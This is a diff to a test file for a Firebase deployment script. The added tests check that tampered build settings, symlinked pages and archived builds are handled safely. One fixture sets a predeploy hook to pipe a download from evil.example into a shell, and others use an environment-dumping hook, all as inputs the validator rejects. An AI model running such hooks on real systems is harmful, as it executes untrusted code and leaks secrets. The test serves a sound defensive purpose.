@@ -1,7 +1,15 @@
 /** What a deployment would do, without a network: firebase-tools is a function here that writes down its arguments. */
 
 import { execFileSync, spawnSync } from "node:child_process";
-import { mkdirSync, mkdtempSync, rmSync, utimesSync, writeFileSync } from "node:fs";
+import {
+  mkdirSync,
+  mkdtempSync,
+  renameSync,
+  rmSync,
+  symlinkSync,
+  utimesSync,
+  writeFileSync,
+} from "node:fs";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { afterAll, beforeAll, expect, test, vi } from "vitest";
@@ -22,10 +30,14 @@ const built = {
   },
 };
 
+/** As in the repository: it refuses to be deployed itself, and its policy is that of no page. */
+const own = { hosting: { public: "public", predeploy: "node scripts/refuse-deploy.mjs" } };
+
 beforeAll(() => {
   mkdirSync(join(folder, "public/page-data"), { recursive: true });
   writeFileSync(join(folder, "public/index.html"), "<h1>DroneDoc</h1>");
   writeFileSync(join(folder, "public/page-data/app.json"), "{}");
+  writeFileSync(join(folder, "firebase.json"), JSON.stringify(own));
   writeFileSync(join(folder, "firebase.built.json"), JSON.stringify(built));
 });
 
@@ -94,7 +106,7 @@ test("a preview brings pages and no rules, for a week", async () => {
   const { said, commands, ask } = await runDeploy(["--preview", "pr-7", "--yes"]);
   expect(ask).not.toHaveBeenCalled();
   expect(commands[0]?.slice(0, 4)).toEqual(["hosting:channel:deploy", "pr-7", "--expires", "7d"]);
-  expect(said).toContain("A preview has the accounts and the data of the live site.");
+  expect(said).toContain("A preview has the accounts and the data of the project's live site.");
 });
 
 test("without cloud accounts only the pages go, and it says that nobody can log in", async () => {
@@ -157,6 +169,50 @@ test("a build that broke off while it wrote pages is not deployed, though its li
   expect(readSite(folder).isWhole).toBe(true);
   utimesSync(join(folder, "public/index.html"), minutes(1), minutes(1));
   expect(readSite(folder).isWhole).toBe(false);
+});
+
+test.each([
+  ["predeploy", { hosting: { ...built.hosting, predeploy: "curl https://evil.example | sh" } }],
+  ["postdeploy", { hosting: { ...built.hosting, postdeploy: "env" } }],
+  ["source", { hosting: { ...built.hosting, source: "." } }],
+  ["rewrites", { hosting: { ...built.hosting, rewrites: [{ source: "**", function: "x" }] } }],
+  ["public", { hosting: { ...built.hosting, public: "." } }],
+  ["firestore", { ...built, firestore: { rules: "public/open.rules" } }],
+  ["functions", { ...built, functions: { predeploy: "env" } }],
+])(
+  "settings of hosting with another %s than the repository's own are not deployed",
+  (key, settings) => {
+    writeFileSync(join(folder, "index.html"), "");
+    writeFileSync(join(folder, "firebase.built.json"), JSON.stringify(settings));
+    expect(() => readSite(folder)).toThrow(`another "${key}" than firebase.json`);
+    writeFileSync(join(folder, "firebase.built.json"), JSON.stringify(built));
+  },
+);
+
+test("a link among the pages is not deployed, for what it leads to would be", () => {
+  symlinkSync("/etc/hostname", join(folder, "public/page-data/key.txt"));
+  expect(() => readSite(folder)).toThrow("page-data/key.txt is a link");
+  rmSync(join(folder, "public/page-data/key.txt"));
+});
+
+test("a folder of pages that is a link is not deployed", () => {
+  renameSync(join(folder, "public"), join(folder, "elsewhere"));
+  symlinkSync("elsewhere", join(folder, "public"));
+  expect(() => readSite(folder)).toThrow("public is a link");
+  rmSync(join(folder, "public"));
+  renameSync(join(folder, "elsewhere"), join(folder, "public"));
+});
+
+test("pages that came in an archive, as from another job, are deployed", () => {
+  const arrived = join(folder, "arrived");
+  mkdirSync(arrived);
+  writeFileSync(join(arrived, "firebase.json"), JSON.stringify(own));
+  writeFileSync(join(folder, "public/index.html"), "<h1>DroneDoc</h1>");
+  writeFileSync(join(folder, "firebase.built.json"), JSON.stringify(built));
+  const archive = join(folder, "site.tar");
+  execFileSync("tar", ["-cf", archive, "-C", folder, "public", "firebase.built.json"]);
+  execFileSync("tar", ["-xf", archive, "-C", arrived, "public", "firebase.built.json"]);
+  expect(readSite(arrived)).toMatchObject({ files: 2, isWhole: true });
 });
 
 test("firebase.json itself refuses to be deployed, as its policy fits no page", () => {
